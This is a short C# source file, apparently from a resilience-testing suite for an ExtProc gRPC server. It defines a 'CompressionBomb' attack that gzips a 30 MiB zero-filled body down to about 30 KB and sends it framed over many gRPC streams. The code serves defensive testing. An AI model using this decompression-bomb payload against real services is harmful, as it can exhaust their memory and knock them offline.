using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;
using Google.Protobuf;

namespace ExtProc.Attacks.Messages;

/// <summary>30 KB of gzip that become 30 MiB, in a frame of gRPC.</summary>
internal sealed class CompressionBomb : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target)
    {
        byte[] message = Requests.Framed(Requests.Gzip(Requests.RequestBody(ByteString.CopyFrom(new byte[30 << 20])).ToByteArray()), compressed: true);
        return Compressed.SendAsync(target, message, streams: target.Count(4, 100));
    }
}
